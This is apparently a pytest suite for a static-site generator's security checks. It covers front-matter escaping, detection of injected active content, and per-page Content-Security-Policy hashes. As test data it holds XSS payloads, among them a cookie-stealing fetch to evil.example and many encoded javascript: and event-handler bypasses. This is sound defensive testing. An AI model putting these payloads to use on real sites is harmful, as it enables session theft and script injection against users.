"""Nothing from a page or its front matter can run in a reader's browser.

* Front-matter values are escaped wherever a template prints them.
* A built page may hold only the project's scripts; any other script, event
  handler, ``javascript:`` URL, frame, object, form or ``<meta http-equiv>``
  fails the strict build naming the file (``sitetools.postbuild.active``).
* Every page carries a Content-Security-Policy that allows exactly its inline
  scripts (``sitetools.postbuild.csp``); it is tried in Chromium in
  tests/test_browser.py.
* Bad bytes and bad front matter give one line naming the file.

Broken input is built as the small trilingual site of conftest (``small_site``) with
the project's own configuration, hooks and overrides.
"""

from __future__ import annotations

import html
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sitetools.guard.scan import scan_page
from sitetools.postbuild.active import (
    Allowed,
    active_content,
    active_files,
    allowed_in_page,
    dangerous_url,
)
from sitetools.postbuild.csp import (
    IFRAME_WORKER_SHIM,
    PolicyError,
    base_url,
    iframe_worker_script,
    material_inline_scripts,
    page_policy,
    script_hash,
)
from sitetools.render.pages import escape_front_matter

from conftest import ROOT, build_site
from conftest import small_site as conftest_small_site

OVERRIDES = ROOT / "overrides"
ATTACK = 'Паспорта"><script>fetch("https://evil.example/?"+document.cookie)</script><meta x="'


# ------------------------------------------------------------------ the small site

def small_site(tmp_path: Path) -> Path:
    """The small trilingual site of conftest (real mkdocs.yml, hooks, overrides and the
    fixture data; index, help and law pages) as a project to break."""
    return conftest_small_site(tmp_path / "project")


def set_front_matter(page: Path, key: str, value: str) -> None:
    """Replace the front-matter line ``key: …`` of ``page`` by ``key: <value>`` (raw YAML)."""
    text = page.read_text(encoding="utf-8")
    text, count = re.subn(rf"^{key}: .*$", lambda _: f"{key}: {value}", text, count=1,
                          flags=re.M)
    assert count == 1, f"no {key}: in {page}"
    page.write_text(text, encoding="utf-8")


def yaml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def errors_of(proc: subprocess.CompletedProcess[str]) -> list[str]:
    """The lines of the build's output that are not INFO (or DEBUG)."""
    return [line for line in proc.stderr.splitlines()
            if line.strip() and not line.startswith(("INFO", "DEBUG"))]


class _Head(HTMLParser):
    """The description, the title and every script element of a page, as a browser reads
    them (character references decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.description: list[str] = []
        self.title = ""
        self.scripts: list[dict[str, str]] = []
        self._in_title = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "meta" and a.get("name") == "description":
            self.description.append(a.get("content", ""))
        if tag == "script":
            self.scripts.append(a)
        self._in_title = tag == "title"

    def handle_endtag(self, tag: str) -> None:
        self._in_title = False

    def handle_data(self, data: str) -> None:
        if self._in_title:
            self.title += data


def head_of(html: str) -> _Head:
    parser = _Head()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.build
def test_front_matter_renders_as_text_wherever_a_template_prints_it(tmp_path: Path) -> None:
    project = small_site(tmp_path)
    ru = project / "docs" / "ru" / "index.md"
    set_front_matter(ru, "description", yaml_string(ATTACK))
    title = 'Начало</title><script>alert(1)</script> & "кавычки"'
    set_front_matter(ru, "title", yaml_string(title))
    en = project / "docs" / "en" / "index.md"
    set_front_matter(en, "description", yaml_string('The "stay" rule & <b>bold</b> words'))
    build_site(tmp_path / "site", project=project)  # strict: passes, as text

    page = (tmp_path / "site" / "ru" / "index.html").read_text(encoding="utf-8")
    head = head_of(page)
    assert head.description == [ATTACK]
    assert head.title.startswith(title + " - ")
    assert "evil.example" not in "".join(s.get("src", "") for s in head.scripts)
    assert "<script>fetch" not in page and "<script>alert" not in page
    assert active_content("ru/index.html", page,
                          allowed_in_page("ru/index.html", OVERRIDES)) == []
    english = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    assert head_of(english).description == ['The "stay" rule & <b>bold</b> words']
    index = (tmp_path / "site" / "search" / "search_index.ru.js").read_text(encoding="utf-8")
    assert "<script>" not in index and "</title>" not in index  # titles as HTML text there


# With mkdocs-static-i18n a strict build stops after the first language built after a
# warning (en, then ru), and the check of the finished site runs only when every page
# passed: one build for the pages, one for files copied from docs/.
HOSTILE_PAGES = {  # page -> (what is added, messages the build must give)
    "en/index.md": ('<script>fetch("https://evil.example/?"+document.cookie)</script>',
                    ["docs/en/index.md: an inline script that is not one of the project's"]),
    "ru/index.md": ('<img src="a.png" alt="" onerror="alert(1)">\n\n'
                    "[ссылка](jav&#x09;ascript:alert(1))\n\n"
                    '<iframe src="index.html"></iframe>\n\n'
                    '<meta http-equiv="refresh" content="0;url=index.html">',
                    ["docs/ru/index.md: an event-handler attribute: ",
                     "docs/ru/index.md: a URL that runs or renders code: jav&#x09;ascript:",
                     "docs/ru/index.md: <iframe> is not allowed",
                     "docs/ru/index.md: <meta http-equiv> other than the page's"]),
}
HOSTILE_FILES = {
    "ru/evil.html": ("<p>x</p><script>alert(1)</script>",
                     ["ru/evil.html (in the built site): an inline script that is not one"]),
    "uk/pic.svg": ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
                   ["uk/pic.svg (in the built site): an event-handler attribute"]),
}


@pytest.mark.build
@pytest.mark.parametrize("hostile", [HOSTILE_PAGES, HOSTILE_FILES], ids=["pages", "files"])
def test_executable_content_by_any_route_fails_the_build_naming_the_file(
        tmp_path: Path, hostile: dict[str, tuple[str, list[str]]]) -> None:
    project = small_site(tmp_path)
    for name, (added, _) in hostile.items():
        path = project / "docs" / name
        before = path.read_text(encoding="utf-8") + "\n" if path.exists() else ""
        path.write_text(before + added + "\n", encoding="utf-8")
    proc = build_site(tmp_path / "site", project=project, check=False)
    assert proc.returncode != 0
    missing = [message for _, messages in hostile.values() for message in messages
               if message not in proc.stderr]
    assert not missing, f"not reported: {missing}\n{proc.stderr[-3000:]}"
    assert "Traceback" not in proc.stderr


@pytest.mark.build
def test_a_byte_that_is_not_utf8_gives_one_line_naming_file_and_offset(
        tmp_path: Path) -> None:
    project = small_site(tmp_path)
    page = project / "docs" / "uk" / "index.md"
    raw = page.read_bytes()
    cut = raw.index(b"{#top}")
    page.write_bytes(raw[:cut] + b"\xff" + raw[cut:])
    proc = build_site(tmp_path / "site", project=project, check=False)
    assert proc.returncode != 0
    line = raw[:cut].count(b"\n") + 1
    expected = f"docs/uk/index.md:{line}: byte {cut} (0xff) is not UTF-8; save the file as UTF-8"
    errors = errors_of(proc)
    assert len(errors) == 1 and errors[0].endswith(" " + expected), proc.stderr[-3000:]


@pytest.mark.build
def test_invalid_front_matter_is_reported_as_such(tmp_path: Path) -> None:
    project = small_site(tmp_path)
    page = project / "docs" / "ru" / "index.md"
    set_front_matter(page, "description", '"unclosed')
    line = page.read_text(encoding="utf-8").splitlines().index('description: "unclosed') + 1
    proc = build_site(tmp_path / "site", project=project, check=False)
    assert proc.returncode != 0
    expected = (f"docs/ru/index.md:{line}: front matter is not valid YAML: while scanning a quoted "
                "scalar, found unexpected end of stream")
    assert expected in proc.stderr, proc.stderr[-3000:]
    assert "'reviewed' is missing" not in proc.stderr and "Traceback" not in proc.stderr


# ------------------------------------------------------------------ the real site

def _policy(page: str) -> str | None:
    m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    return html.unescape(m.group(1)) if m else None


@pytest.mark.build
def test_every_page_has_a_policy_that_allows_exactly_its_own_scripts(
        offline_site: Path) -> None:
    problems = []
    pages = [n for n in active_files(offline_site) if n.endswith(".html")]
    assert len(pages) > 100
    for name in pages:
        page = (offline_site / name).read_text(encoding="utf-8")
        policy = _policy(page)
        if policy is None:
            problems.append(f"{name}: no Content-Security-Policy")
            continue
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        sources = directives["script-src"].split()
        if "'unsafe-inline'" in sources or "'unsafe-eval'" in sources:
            problems.append(f"{name}: script-src allows {sources}")
        if any("//" in s or s.startswith(("http", "*")) for d in directives.values()
               for s in d.split()):
            problems.append(f"{name}: a host in its policy: {policy}")
        if directives.get("connect-src") not in ("'self'", "'none'"):
            problems.append(f"{name}: connect-src {directives.get('connect-src')}")
        for body in re.findall(r"<script>(.*?)</script>", page, flags=re.S):
            if script_hash(body) not in sources:
                problems.append(f"{name}: inline script not allowed by its policy: {body[:60]}")
        hashes = [s for s in sources if s.startswith("'sha256-")]
        # pages: Material's 2 and the shim's frame script; the 404 page its own; the
        # neutral pages none
        expected = 1 if name == "404.html" else 0 if name.endswith("neutral.html") else 3
        if len(hashes) != expected:
            problems.append(f"{name}: {len(hashes)} hashes in script-src, not {expected}")
    assert not problems, "\n".join(problems[:20])


@pytest.mark.build
def test_every_description_and_title_reaches_the_page_whole(offline_site: Path) -> None:
    """A `"` in a description (en eu-policy, decree-647) no longer ends the attribute."""
    import yaml

    docs = ROOT / "docs"
    wrong = []
    for source in sorted(docs.rglob("*.md")):
        lang, *parts = source.relative_to(docs).parts
        rel = Path(*parts)
        front = yaml.safe_load(source.read_text(encoding="utf-8").split("---\n", 2)[1])
        built = offline_site / ("" if lang == "en" else lang) / rel.with_suffix(".html")
        head = head_of(built.read_text(encoding="utf-8").split("</head>", 1)[0])
        if head.description != [" ".join(str(front["description"]).split())] and \
                head.description != [str(front["description"])]:
            wrong.append(f"{built.relative_to(offline_site)}: {head.description}")
        if not head.title.startswith(str(front["title"]) + " - "):
            wrong.append(f"{built.relative_to(offline_site)}: title {head.title!r}")
    assert not wrong, "\n".join(wrong[:10])


# ------------------------------------------------------------------ the checks themselves

PAGE = "ru/law/x.html"
ALLOWED = Allowed(script_files=frozenset({"assets/javascripts/quick-exit.js"}),
                  inline_scripts=frozenset(material_inline_scripts("../..")))
OWN = ('<script src="../../assets/javascripts/quick-exit.js"></script>'
       '<script src="../../assets/javascripts/bundle.a5f9d56c.min.js"></script>'
       '<script id="__config" type="application/json">{"base": "../.."}</script>'
       f"<script>{material_inline_scripts('../..')[1]}</script>"
       '<form class="md-search__form" name="search"><input name="query"></form>')


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script src="../../assets/javascripts/evil.js"></script>',
    '<script src="../../../assets/javascripts/quick-exit.js"></script>',  # outside the site
    '<script src="../../assets/javascripts/quick-exit.js?x"></script>',
    '<script src="../../assets/javascripts/quick-exit.js" async></script>',
    '<script type="module">import("x")</script>',
    '<script id="__config" type="application/json">not json</script>',
    "<svg><script>alert(1)</script></svg>",
    '<p title="a"b>x</p><script>alert(1)</script>',  # quote tricks hide nothing
    "<!-- <script>alert(1)</script> -->",  # even in a comment: a parser could disagree
    '<img src="x.png" onerror="alert(1)">',
    '<img src="x.png" ONERROR=alert(1)>',
    "<svg/onload=alert(1)>",
    '<a href="x"onclick="alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JavaScript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<iframe src="x.html"></iframe>',
    '<IFRAME srcdoc="x"></IFRAME>',
    '<frameset><frame src="x.html"></frameset>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="p"></form>',
    '<form class="md-search__form" name="search" action="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta content="0;url=x" http-equiv="Refresh">',
    '<portal src="x.html"></portal>',
])
def test_executable_content_is_found(html: str) -> None:
    found = active_content(PAGE, OWN + html, ALLOWED)
    assert found, html
    assert all(f.file == PAGE for f in found)


@pytest.mark.parametrize("html", [
    OWN,
    "<p>JavaScript: not needed. Use the on-screen form; data: none; one, only, online.</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; is text here</p>",
    "<pre><code>&lt;iframe src=x&gt;&lt;/iframe&gt;</code></pre>",
    '<p>"Onion" addresses: <code>HiddenServicePort 80 127.0.0.1:8080</code></p>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<a href="https://ovdinfo.org/">OVD-Info</a> <a href="../index.html#top">top</a>',
    '<a href="mailto:legal@ovdinfo.org">mail</a> <a href="tel:+74951234567">call</a>',
    '<div data-md-component="search" data-dir="ltr" dir="ltr">x</div>',
])
def test_harmless_markup_passes(html: str) -> None:
    assert active_content(PAGE, html, ALLOWED) == []


@pytest.mark.parametrize("before", list(' \t\n\r\f\v"\'/'))
def test_an_event_attribute_after_any_separator_is_found(before: str) -> None:
    found = active_content(PAGE, f"<img src=x{before}onerror=alert(1)>", Allowed())
    assert [f for f in found if "event-handler" in f.what]


@pytest.mark.parametrize("text", ["<p>online=yes</p>", "<b>x</b>onclick=1", "con-fig=1",
                                  "x-on-y=1"])
def test_on_inside_a_word_is_not_an_event_attribute(text: str) -> None:
    assert not [f for f in active_content(PAGE, text, Allowed()) if "event-handler" in f.what]


@given(st.lists(st.sampled_from([" ", "\t", "\n", "\x0b", "\x0c", "\r", '"', "'", "/", "=",
                                  "on", "onclick", "ON", "x", "-", "<a", ">"]), max_size=12))
def test_every_event_attribute_is_found(pieces: list[str]) -> None:
    """An attribute "on…=" after a space, quote or slash is found (the scan looks for the
    name first and checks the byte before it), and nothing else is."""
    text = "".join(pieces)
    events = [f for f in active_content(PAGE, text, Allowed()) if "event-handler" in f.what]
    assert len(events) == len(re.findall(r"""[\s"'/]on[a-z-]+\s*=""", text.lower()))


def test_the_page_policy_must_be_there_once_and_exact() -> None:
    policy = page_policy(["x"])
    allowed = Allowed(policy=policy)
    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
    assert active_content(PAGE, meta, allowed) == []
    escaped = meta.replace("'", "&#39;")  # as an autoescaping template writes it
    assert active_content(PAGE, escaped, allowed) == []
    assert "0 copies" in str(active_content(PAGE, "<p>x</p>", allowed)[0])
    assert active_content(PAGE, meta + meta, allowed)
    looser = meta.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
    assert active_content(PAGE, looser, allowed)


@pytest.mark.parametrize(("value", "dangerous"), [
    ("javascript:x", True), ("  javascript:x", True), ("\x01javascript:x", True),
    ("JAVASCRIPT:x", True), ("java&Tab;script:x", True), ("data:text/html,x", True),
    ("data:image/png;base64,x", False), ("data:image/gif,x", False),
    ("https://example.org/javascript:x", False), ("../javascript.html", False),
    ("data.html", False), ("vbscript:x", True), ("&#x6a;avascript:x", True),
])
def test_dangerous_urls(value: str, dangerous: bool) -> None:
    assert dangerous_url(value) is dangerous


def test_front_matter_is_escaped_keeping_types() -> None:
    import datetime

    meta = {"title": "A <b> & \"c\"", "reviewed": datetime.date(2026, 11, 21),
            "hide": ["toc"], "search": {"exclude": True, "note": "<x>"}, "n": 3}
    out = escape_front_matter(meta)
    assert out["title"] == "A &lt;b&gt; &amp; &#34;c&#34;"
    assert out["reviewed"] == meta["reviewed"] and out["n"] == 3
    assert out["hide"] == ["toc"] and "toc" in out["hide"]
    assert out["search"] == {"exclude": True, "note": "&lt;x&gt;"}
    from markupsafe import escape

    assert escape(out["title"]) == out["title"]  # a template's own `| e` adds nothing


@pytest.mark.parametrize(("source", "message"), [
    ("---\ntitle: x\n---\n\n# x\n", None),
    ("# no front matter\n", None),
    ("---\ntitle: x\ndescription: \"open\nreviewed: 2026-11-21\n---\n# x\n",
     "3: front matter is not valid YAML: while scanning a quoted scalar, "
     "found unexpected end of stream"),
    ("---\ntitle: x: y\n---\n# x\n",
     "2: front matter is not valid YAML: mapping values are not allowed in this context"),
    ("---\ntitle: x\n\n# x\n", "1: front matter is not closed by a line '---'"),
    ("---\n- a\n- b\n---\n# x\n",
     "1: front matter is not a mapping of keys to values"),
])
def test_front_matter_problems(source: str, message: str | None) -> None:
    """The guard reads the front matter (the build stops on its line: build_start.py)."""
    front = scan_page(source, "ru", "x.md").front
    assert (f"{front.error_line}: {front.error}" if front.error else None) == message


def test_the_shim_frame_script_is_the_same_in_every_copy() -> None:
    shim = (OVERRIDES / IFRAME_WORKER_SHIM).read_text(encoding="utf-8")
    script = iframe_worker_script(shim)
    assert script.startswith("postMessage=function c(s,n){parent.postMessage(s,n||\"*\")};")
    assert "${" not in script and "filename:name" in script
    unpatched = shim.replace("filename:name", 'filename:"${e}"')
    with pytest.raises(PolicyError, match="depends on a value"):
        iframe_worker_script(unpatched)
    with pytest.raises(PolicyError, match="frame script was not found"):
        iframe_worker_script("(()=>{})()")


def test_material_scripts_follow_the_base_url() -> None:
    assert [base_url(p) for p in ("index.html", "law/x.html", "ru/law/x.html")] == \
        [".", "..", "../.."]
    assert material_inline_scripts("../..")[0].startswith('__md_scope=new URL("../..",')
    with pytest.raises(PolicyError):
        material_inline_scripts('x",alert(1),"')
